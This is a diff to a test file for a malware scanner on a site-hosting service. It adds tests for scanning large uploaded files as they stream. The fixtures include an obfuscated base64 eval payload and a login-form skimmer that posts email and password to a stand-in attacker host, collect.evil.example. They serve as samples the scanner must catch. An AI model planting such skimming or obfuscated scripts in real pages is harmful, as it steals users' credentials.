@@ -1,10 +1,11 @@
+import { Readable } from 'node:stream';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { signUp } from '@/server/auth/accounts';
 import { useTestDb, uniqueEmail } from '@/testing/db';
 import { benignCorpus, hostileCorpus } from '@/testing/scan-corpus';
 import { BlobStore } from './blob-store';
 import { decodeInlineFiles, storeInlineFiles, validateManifest } from './files';
-import { maxMatchLength, normalizeHost, normalizeScript, readings, SCAN_VERSION, SCAN_WINDOW, scanBytes, scanSite, scanText, windowStarts } from './scan';
+import { maxMatchLength, normalizeHost, normalizeScript, readings, SCAN_VERSION, SCAN_WINDOW, scanBytes, scanSite, scanStream, scanText, windowStarts } from './scan';
 import rules from './scan-rules.json';
 
 const P = Buffer.from('alert(document.cookie)').toString('base64');
@@ -154,6 +155,66 @@ describe('large files are scanned in overlapping windows, never skipped', () => 
   });
 });
 
+describe('files larger than a window are read as they stream, never whole', () => {
+  /** A blob as a store streams it: a fresh stream of `piece`-byte pieces each time it is opened. */
+  const pieces = (bytes: Buffer, piece: number) => async () => {
+    const out = [];
+    for (let at = 0; at < bytes.length; at += piece) out.push(bytes.subarray(at, at + piece));
+    return Readable.from(out);
+  };
+  const code = (n: number) => 'var item = { id: 1, label: "ordinary code" };\n'.repeat(Math.ceil(n / 46)).slice(0, n);
+
+  it('every file of the corpus, streamed in 7-byte pieces, is judged exactly as when it is read whole', async () => {
+    const differences: string[] = [];
+    for (const entry of [...hostileCorpus(), ...benignCorpus()])
+      for (const [path, bytes] of Object.entries(entry.files)) {
+        const whole = scanBytes(path, bytes);
+        const streamed = await scanStream(path, pieces(bytes, 7));
+        if (JSON.stringify(streamed) !== JSON.stringify(whole)) differences.push(`${entry.name} ${path}: ${JSON.stringify(whole)} read whole, ${JSON.stringify(streamed)} streamed`);
+      }
+    expect(differences).toEqual([]);
+  }, 120_000);
+
+  it('cuts a stream into the windows of the whole text: a pattern straddling a boundary of a 9 MB bundle is found', async () => {
+    const snippet = `\neval(atob("${P}"));\n`;
+    const start = SCAN_WINDOW.chars - Math.floor(snippet.length / 2);
+    const text = Buffer.from(code(start) + snippet + code(9 * 1024 * 1024 - start - snippet.length));
+    expect(await scanStream('bundle.js', pieces(text, 64 * 1024))).toMatchObject({ rule: 'obfuscated-eval', path: 'bundle.js' });
+  }, 120_000);
+
+  it('stops reading at the window of the first hit: a 40 MB stream is read for little more than one window', async () => {
+    let read = 0;
+    const open = async () =>
+      Readable.from(
+        (function* () {
+          yield Buffer.from(`eval(atob("${P}"));\n`);
+          const more = Buffer.from(code(64 * 1024));
+          for (let i = 0; i < 640; i++) {
+            read += more.length;
+            yield more;
+          }
+        })(),
+      );
+    expect(await scanStream('bundle.js', open)).toMatchObject({ rule: 'obfuscated-eval' });
+    expect(read).toBeLessThan(2 * SCAN_WINDOW.chars);
+  }, 60_000);
+
+  it('parses a 9 MB page as it streams: a script in its head that sends the password form at its end, and an eval deep inside a 9 MB inline script', async () => {
+    const prose = '<p>ordinary words about the product and its many features</p>\n'.repeat(160_000);
+    const reader = '<script>const f = document.getElementById("signin"); f.addEventListener("submit", () => fetch("https://collect.evil.example/c", { method: "POST", body: new FormData(f) }));</script>';
+    const form = '<form id="signin" action="/login"><input type="email" name="email"><input type="password" name="password"><button>Sign in</button></form>';
+    const page = Buffer.from(`<!doctype html><html><head>${reader}</head><body>${prose}${form}</body></html>`);
+    expect(page.length).toBeGreaterThan(9 * 1024 * 1024);
+    expect(await scanStream('index.html', pieces(page, 64 * 1024))).toMatchObject({ rule: 'credential-script-other-origin' });
+    // The same page without the sending script passes.
+    expect(await scanStream('index.html', pieces(Buffer.from(page.toString().replace(reader, '')), 64 * 1024))).toBeNull();
+
+    const half = 4.5 * 1024 * 1024;
+    const script = Buffer.from(`<!doctype html><script>${code(half)}eval(atob("${P}"));\n${code(half)}</script><h1>app</h1>`);
+    expect(await scanStream('index.html', pieces(script, 64 * 1024))).toMatchObject({ rule: 'obfuscated-eval' });
+  }, 120_000);
+});
+
 describe('scanning sites through the blob store', () => {
   const getDb = useTestDb();
   let userId: string;
@@ -166,7 +227,7 @@ describe('scanning sites through the blob store', () => {
     const read: string[] = [];
     return {
       read,
-      getMany: (shas: string[]) => (read.push(...shas), store.getMany(shas)),
+      open: (sha: string) => (read.push(sha), store.open(sha)),
       passedScan: (shas: string[], v: string) => store.passedScan(shas, v),
       markScanned: (shas: string[], v: string) => store.markScanned(shas, v),
     };
